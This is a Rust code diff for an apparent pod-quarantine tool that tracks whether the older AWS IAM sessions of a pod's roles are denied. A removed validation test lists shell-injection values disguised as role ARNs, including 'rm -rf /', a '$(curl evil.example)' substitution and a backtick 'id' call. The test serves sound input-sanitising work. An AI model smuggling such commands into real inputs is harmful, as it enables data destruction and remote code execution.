@@ -1,49 +1,72 @@
-//! The sessions of the pod's IAM role that it already has: which role, and the line that ends them. The function does not do it:
-//! it would need the right to write policies of roles, and other pods may act as the same role.
+//! The sessions of the pod's IAM roles that it already has: which roles, what was done about them, and where nothing was, the
+//! line that ends them.
 
-use day2_core::arn::Arn;
+use day2_core::containment::sessions::role_name;
+use day2_core::containment::{Containment, Measure, MeasureState, Taken};
+use day2_core::{Item, Verdict};
 
-use super::items::Seen;
+use super::items::{Seen, judged, number};
 
-/// The question, and what a person needs to answer it, each a line of its own: a mail cuts long ones.
-///
-/// The statement is the one of `AWSRevokeOlderSessions` (IAM user guide, "Revoke IAM role temporary security credentials"). A
-/// session that is fetched afterwards is newer than it: that needs the network, which the quarantine takes away.
-pub(super) fn sessions(seen: &Seen<'_>) -> Vec<(String, String)> {
+/// The questions, and what a person needs to answer them, each a line of its own: a mail cuts long ones.
+pub(super) fn questions(seen: &Seen<'_>) -> Vec<(String, String)> {
     let pod = seen.pod;
     let account = format!("service account {}/{}", pod.namespace, pod.service_account);
     let still = "sessions of AWS that the pod already has stay valid until they expire";
     let only = |says: String| vec![(account.clone(), says)];
-    let found = match seen.others.map(|others| &others.account) {
+    let roles = match seen.others.map(crate::facts::WorkloadFacts::roles) {
         None => return only(format!("{still}; find its IAM role, and deny the older sessions")),
         Some(Err(why)) => {
             return only(format!(
                 "{still}; its IAM role could not be read ({why}): look for it, and deny the older sessions"
             ));
         }
-        Some(Ok(found)) => found,
+        Some(Ok(roles)) => roles,
     };
-    let Some(arn) = found.as_ref().and_then(|account| account.role_arn.as_deref()) else {
-        let look = format!(
-            "aws eks list-pod-identity-associations --cluster-name NAME --namespace {} --service-account {}",
-            pod.namespace, pod.service_account
+    if roles.is_empty() {
+        return only(
+            "it acts as no IAM role of its own, neither by IRSA nor by EKS Pod Identity; if pods may ask the instance \
+             metadata, it had the role of its node"
+                .to_owned(),
         );
-        return vec![
-            (
-                account,
-                format!("{still}; no IAM role stands at the account (IRSA)"),
-            ),
-            ("its role by EKS Pod Identity".to_owned(), look),
-        ];
-    };
+    }
+    let mut lines = Vec::new();
+    for arn in roles {
+        match denied(seen.record, arn) {
+            Some(taken) => lines.extend([
+                (
+                    account.clone(),
+                    format!("it acts as {arn}, and perhaps other pods do too; {}", taken.says),
+                ),
+                (
+                    "healthy pods of this role".to_owned(),
+                    "they fail until they renew their sessions: restart those that do not by themselves"
+                        .to_owned(),
+                ),
+            ]),
+            None => lines.extend(by_hand(&account, still, arn)),
+        }
+    }
+    lines
+}
+
+/// The measure of this role that is in force.
+fn denied<'a>(record: Option<&'a Containment>, arn: &str) -> Option<&'a Taken> {
+    record?.measures.iter().find(|taken| {
+        matches!(&taken.measure, Measure::DenySessions { role, .. } if role == arn)
+            && taken.state == MeasureState::Active
+    })
+}
+
+fn by_hand(account: &str, still: &str, arn: &str) -> Vec<(String, String)> {
     let Some(role) = role_name(arn) else {
-        return only(format!(
-            "{still}; its annotation names {arn:?}, which is no ARN of a role"
-        ));
+        return vec![(
+            account.to_owned(),
+            format!("{still}; it names {arn:?}, which is no ARN of a role"),
+        )];
     };
     vec![
         (
-            account,
+            account.to_owned(),
             format!("{still}; it acts as {arn}, and perhaps other pods do too"),
         ),
         ("deny its older sessions".to_owned(), deny(role)),
@@ -62,48 +85,39 @@ fn deny(role: &str) -> String {
     )
 }
 
-/// The name of the role of an ARN. It goes into a line that a person pastes, and whoever may change a service account wrote it:
-/// only the characters of role names pass (IAM API reference, `CreateRole`: `[\w+=,.@-]+`).
-fn role_name(arn: &str) -> Option<&str> {
-    let parsed: Arn = arn.parse().ok()?;
-    let at = arn.strip_suffix(parsed.resource())?.len();
-    let path = arn.get(at..)?.strip_prefix("role/")?;
-    let name = path.rsplit('/').next()?;
-    let fits = |c: char| c.is_ascii_alphanumeric() || "_+=,.@-".contains(c);
-    (parsed.service() == "iam"
-        && !name.is_empty()
-        && name.len() <= 64
-        && path.chars().all(|c| fits(c) || c == '/'))
-    .then_some(name)
+/// Whether the roles' older sessions are denied; none where that was not begun.
+pub(super) fn item(record: &Containment) -> Option<Item> {
+    let roles: Vec<&Taken> = record
+        .measures
+        .iter()
+        .filter(|taken| matches!(taken.measure, Measure::DenySessions { .. }))
+        .collect();
+    let verdict = match roles.as_slice() {
+        [] => return None,
+        all if all.iter().all(|taken| taken.state == MeasureState::Active) => Verdict::Pass,
+        _ => Verdict::Fail,
+    };
+    let subjects = roles.iter().map(|taken| {
+        (
+            taken.resource.clone(),
+            format!("{}: {}", taken.state.words(), taken.says),
+        )
+    });
+    let item = judged(
+        "THR-011",
+        "the older sessions of the pod's role are denied",
+        verdict,
+        number(roles.len()),
+        format!("{} roles", roles.len()),
+    );
+    Some(item.subjects(subjects).remedy(
+        "deny them by hand in IAM (the role's page, Revoke sessions); healthy pods of the role must renew theirs",
+    ))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn only_the_name_of_a_role_gets_into_the_line_e12() {
-        for (arn, name) in [
-            (
-                "arn:aws:iam::123456789012:role/prod-a-checkout",
-                Some("prod-a-checkout"),
-            ),
-            (
-                "arn:aws-us-gov:iam::123456789012:role/apps/shop/checkout",
-                Some("checkout"),
-            ),
-            ("arn:aws:iam::123456789012:user/checkout", None),
-            ("arn:aws:s3:::role/checkout", None),
-            ("arn:aws:iam::123456789012:role/", None),
-            ("arn:aws:iam::123456789012:role/x; rm -rf /", None),
-            ("arn:aws:iam::123456789012:role/$(curl evil.example)", None),
-            ("arn:aws:iam::123456789012:role/a`id`", None),
-            ("checkout", None),
-            ("", None),
-        ] {
-            assert_eq!(role_name(arn), name, "{arn}");
-        }
-    }
 
     #[test]
     fn the_line_denies_what_was_issued_before_it_and_is_whole() {
